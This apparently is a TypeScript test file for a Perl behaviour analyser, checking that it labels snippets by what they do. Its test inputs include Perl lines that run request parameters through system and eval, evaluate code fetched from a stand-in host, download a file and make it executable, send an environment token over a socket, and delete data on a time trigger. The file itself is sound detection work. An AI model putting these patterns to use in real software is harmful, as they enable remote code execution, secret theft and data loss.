/** What programs in Perl do, by the call table. Nothing here is run; dangerous words are put together. */
import { PERL_CALLS, perlCues } from "../../../../src/evidence/readers/calls/perl.ts";
import { actionsOf } from "./actions-of.ts";

const RUN = ["ev", "al"].join("");
const SYSTEM = ["sys", "tem"].join("");
const CODE = Buffer.from("print 1;").toString("base64");

test.each([
  [
    `use CGI; my $q = CGI->new; ${SYSTEM}($q->param("c")); ${RUN} $q->param("d");`,
    ["run computed command by command <- request", `evaluate computed from request by ${RUN} <- request`],
  ],
  [`use MIME::Base64; ${RUN} decode_base64("${CODE}");`, [`evaluate print 1; by ${RUN} <- decoded:base64`]],
  [
    `use LWP::Simple; ${RUN} get("https://a.example/x");`,
    ["fetch a.example by get", `evaluate computed from fetched by ${RUN} <- fetched:a.example`],
  ],
  [
    `my $u = LWP::UserAgent->new; ${RUN}($u->get("https://a.example/x")->decoded_content);`,
    ["fetch a.example by LWP::UserAgent.get", `evaluate computed from fetched by ${RUN} <- fetched:a.example`],
  ],
  [
    `use LWP::Simple; getstore("https://a.example/x", "/tmp/x"); chmod 0755, "/tmp/x";`,
    [
      "fetch a.example by getstore",
      "write /tmp/x by getstore <- fetched:a.example",
      "change-permission /tmp/x by chmod",
    ],
  ],
  [
    `my $s = IO::Socket::INET->new(PeerAddr => "a.example"); print $s $ENV{A_TOKEN};`,
    [
      "fetch a.example by IO::Socket::INET",
      "send a.example by socket.print <- environment:A_TOKEN + fetched:a.example",
    ],
  ],
  [
    `open(my $f, ">", "/tmp/x"); print $f HTTP::Tiny->new->get("https://a.example")->{content};`,
    ["fetch a.example by HTTP::Tiny.get", "write /tmp/x by file.print <- fetched:a.example"],
  ],
  [`rmtree("data") if time > 1;`, ["delete data by rmtree if time"]],
])("%s", async (source, expected) => {
  expect(await actionsOf("lib/a.pl", source)).toEqual(expected);
});

test("every row says where its behaviour is documented", () => {
  expect(PERL_CALLS.rows.filter(({ source }) => !source.startsWith("https://"))).toEqual([]);
});

test("ordinary edits hold no cue, dangerous ones do", () => {
  const hasCue = (line: string) => perlCues.all().some((cue) => line.toLowerCase().includes(cue));
  const ordinary = ["my $total = 0;", "$total += $_->{price} foreach @items;", "return $self->{name};"];
  const dangerous = [`${RUN} $x;`, `${SYSTEM} "x";`, "`id`;", "open(F, $x);", "get($u);", "unlink $x;"];
  expect([ordinary.filter(hasCue), dangerous.filter((line) => !hasCue(line))]).toEqual([[], []]);
});
